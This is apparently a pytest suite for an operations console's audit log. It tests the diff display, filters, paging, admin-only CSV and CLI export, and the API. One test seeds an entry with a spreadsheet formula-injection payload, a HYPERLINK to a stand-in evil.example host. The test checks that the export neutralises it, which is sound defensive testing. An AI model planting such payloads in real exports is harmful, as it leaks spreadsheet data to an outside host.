"""The audit log in the console: who did what, filters, paging, and its export (console CSV and CLI)."""
import csv
import io
import json

import sqlalchemy as sa

from core.db import db
from ops import audit
from ops.audit import Actor, record
from ops import models as ops_models
from ops.models import AuditEntry
from ops.views import audit_diff
from tests.conftest import make_operator, post_form, sign_in


def as_admin(client):
    admin = make_operator("admin")
    assert sign_in(client, admin).status_code == 302
    return admin


def rows_on(html: str) -> int:
    return html.count("<code>")


def test_the_audit_log_shows_who_did_what_and_a_before_after_diff(client):
    admin = as_admin(client)
    target = make_operator("viewer")
    post_form(client, "/ops/operators", {"role": "operator"}, action=f"/ops/operators/{target.id}/role")
    html = client.get("/ops/audit").get_data(as_text=True)
    assert "operator.set_role" in html and "admin@example.com (web)" in html
    assert "<td>role</td><td><del>viewer</del></td><td><ins>operator</ins></td>" in html
    # newest first: the role change is listed before the sign-in that preceded it
    assert html.index("operator.set_role") < html.index("operator.sign_in<")
    assert db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "operator.set_role")).operator_id \
        == admin.id


def test_the_audit_log_filters_by_action_prefix_and_operator(client):
    admin = as_admin(client)
    other = make_operator("operator")
    record(db.session, actor=Actor(other.id, "operator@example.com (web)"), action="incident.create",
           entity_type="incident", entity_id=1, after={"name": "Sync down"})
    record(db.session, actor=Actor(admin.id, "admin@example.com (web)"), action="incident.update",
           entity_type="incident", entity_id=1, before={"status": "investigating"}, after={"status": "identified"})
    db.session.commit()

    by_action = client.get("/ops/audit?action=incident.").get_data(as_text=True)
    assert "<code>incident.create</code>" in by_action and "<code>incident.update</code>" in by_action
    assert "<code>operator.create</code>" not in by_action and "2 entries" in by_action
    by_operator = client.get(f"/ops/audit?action=incident.&operator={other.id}").get_data(as_text=True)
    assert "<code>incident.create</code>" in by_operator and "<code>incident.update</code>" not in by_operator
    assert f'<option value="{other.id}" selected>' in by_operator


def test_the_audit_log_pages_through_many_entries(client):
    as_admin(client)
    for n in range(60):
        record(db.session, actor=Actor.cli(), action="test.bulk", entity_type="thing", entity_id=n)
    db.session.commit()
    first = client.get("/ops/audit?action=test.").get_data(as_text=True)
    assert rows_on(first) == 50 and "Page 1 of 2" in first and 'rel="next"' in first
    assert "thing #59" in first and "thing #9<" not in first
    second = client.get("/ops/audit?action=test.&page=2").get_data(as_text=True)
    assert rows_on(second) == 10 and "thing #0<" in second and 'rel="prev"' in second


def test_odd_query_parameters_are_ignored_not_errors(client):
    as_admin(client)
    for query in ("page=abc", "page=-3", "operator=xyz", "page=99999", "page=10000000000000000000000",
                  "operator=99999999999999999999"):
        assert client.get(f"/ops/audit?{query}").status_code == 200


def test_a_diff_lists_only_what_changed():
    assert audit_diff({"role": "viewer", "active": True}, {"role": "admin", "active": True}) == \
        [("role", "viewer", "admin")]
    assert audit_diff(None, {"name": "x", "ids": [1, 2]}) == [("name", "—", "x"), ("ids", "—", "[1, 2]")]
    assert audit_diff({"revoked_at": None}, None) == []


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_an_admin_downloads_the_audit_log_as_csv_oldest_first_filtered_and_the_download_is_audited(client):
    admin = as_admin(client)
    record(db.session, actor=Actor(admin.id, "admin@example.com (web)"), action="incident.update",
           entity_type="incident", entity_id=1, before={"status": "investigating"},
           after={"name": '=HYPERLINK("https://evil.example/?"&A2)', "status": "identified"})
    db.session.commit()

    response = client.get("/ops/audit.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="audit-log.csv"'
    assert response.headers["Cache-Control"].startswith("no-store")
    rows = csv_rows(response.get_data(as_text=True))
    actions = [r["action"] for r in rows]
    assert actions.index("operator.sign_in") < actions.index("incident.update")  # oldest first
    update = next(r for r in rows if r["action"] == "incident.update")
    assert json.loads(update["before"]) == {"status": "investigating"}
    assert update["at"].endswith("Z") and update["operator_id"] == str(admin.id)
    assert '"=HYPERLINK' in update["after"] and not update["after"].startswith("=")  # JSON text, never a formula
    # The download itself is in the log, with its filters, as the admin who made it.
    [export] = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "audit.export")).all()
    assert export.operator_id == admin.id and export.after == {"via": "console", "action": None, "operator_id": None}

    only = csv_rows(client.get("/ops/audit.csv?action=incident.").get_data(as_text=True))
    assert [r["action"] for r in only] == ["incident.update"]
    page = client.get("/ops/audit").get_data(as_text=True)
    assert 'href="/ops/audit.csv"' in page


def test_the_audit_csv_is_for_admins_only(client):
    make_operator("operator", email="op@example.com")
    assert client.get("/ops/audit.csv").status_code == 302  # signed out: to the sign-in page
    assert sign_in(client, "op@example.com").status_code == 302
    assert client.get("/ops/audit.csv").status_code == 403
    assert db.session.scalar(sa.select(sa.func.count()).where(AuditEntry.action == "audit.export")) == 0


def test_flask_audit_export_writes_every_entry_in_batches_and_is_audited(runner, tmp_path, monkeypatch):
    for i in range(7):
        record(db.session, actor=Actor.cli("test"), action=f"thing.{i}", entity_type="thing", entity_id=i)
    db.session.commit()
    target = tmp_path / "audit.csv"
    result = runner.invoke(args=["audit", "export", "-o", str(target), "--action", "thing."])
    assert result.exit_code == 0, result.output
    assert "Exported 7 audit entries" in result.output
    assert [r["action"] for r in csv_rows(target.read_text())] == [f"thing.{i}" for i in range(7)]
    export = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "audit.export"))
    assert export.actor.startswith("cli ") and export.after["via"] == "cli"
    # Batches are read by id, so a long log never sits in memory whole: small batches give the same rows.
    small = [e.action for e in audit.iter_entries(db.session, action="thing.", batch=2)]
    assert small == [f"thing.{i}" for i in range(7)]


# ---- the audit API, --as, names in entries, subscribers and the system --------------------------

def admin_api(client):
    from ops import service as ops_service
    from tests.ops.api_client import ApiClient
    admin = make_operator("admin", email="root@example.com")
    _token, secret = ops_service.create_token(db.session, actor=Actor.cli("test"), operator_id=admin.id)
    db.session.commit()
    return ApiClient(client, secret), admin


def test_the_audit_api_pages_newest_first_with_filters_and_is_for_admins(client, api):
    for i in range(5):
        record(db.session, actor=Actor.cli("test"), action=f"thing.{i}", entity_type="thing", entity_id=i,
               after={"name": f"Thing {i}"})
    db.session.commit()
    assert api.get("/audit").status_code == 403  # an operator's token
    admin, _ = admin_api(client)
    first = admin.get("/audit?action=thing.&limit=2").get_json()
    assert [e["action"] for e in first["entries"]] == ["thing.4", "thing.3"]
    assert first["entries"][0]["entity_label"] == "Thing 4" and first["next_cursor"]
    rest = admin.get(f"/audit?action=thing.&limit=2&cursor={first['next_cursor']}").get_json()
    assert [e["action"] for e in rest["entries"]] == ["thing.2", "thing.1"]
    one = admin.get("/audit?entity_type=thing&entity_id=3").get_json()["entries"]
    assert [e["action"] for e in one] == ["thing.3"]
    assert admin.get("/audit?action=thing.&until=2000-01-01T00:00:00Z").get_json()["entries"] == []
    r = admin.get("/audit?since=tomorrow")
    assert r.status_code == 422 and "since" in r.get_json()["error"]["fields"]
    # Reading the log is audited, once per reading (its first page): three readings above, one refused.
    reads = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "audit.export")).all()
    assert [r.after["via"] for r in reads] == ["api", "api", "api"]


def test_a_command_run_as_an_operator_names_them_and_the_os_user(app, runner):
    make_operator("admin", email="ana@example.com")
    result = runner.invoke(args=["operators", "--as", "Ana@Example.com", "create", "bo@example.com", "--role",
                                 "viewer", "--password-stdin"], input="a long enough password\n")
    assert result.exit_code == 0, result.output
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "operator.create",
                                                          AuditEntry.entity_label == "bo@example.com"))
    ana = db.session.scalar(sa.select(ops_models.Operator).where(ops_models.Operator.email == "ana@example.com"))
    assert entry.operator_id == ana.id and entry.actor.startswith("cli ") and entry.actor.endswith(
        " as ana@example.com")
    refused = runner.invoke(args=["operators", "--as", "nobody@example.com", "disable", "bo@example.com"])
    assert refused.exit_code == 2 and "no active operator" in refused.output


def test_entries_name_what_they_are_about_so_a_reused_id_is_not_ambiguous(client):
    admin = as_admin(client)
    for name in ("Sync service", "Photo store"):
        component = ops_components_create(admin, name)
        db.session.execute(sa.delete(type(component)).where(type(component).id == component.id))
        db.session.commit()
    labels = db.session.scalars(sa.select(AuditEntry.entity_label).where(AuditEntry.entity_type == "component")
                                .order_by(AuditEntry.id)).all()
    assert labels == ["Sync service", "Photo store"]
    page = client.get("/ops/audit").get_data(as_text=True)
    assert "Sync service" in page and "Photo store" in page


def ops_components_create(admin, name):
    from incidents import service as incidents_service
    component = incidents_service.create_component(db.session, actor=Actor(admin.id, admin.email),
                                                   data={"name": name})
    db.session.commit()
    return component
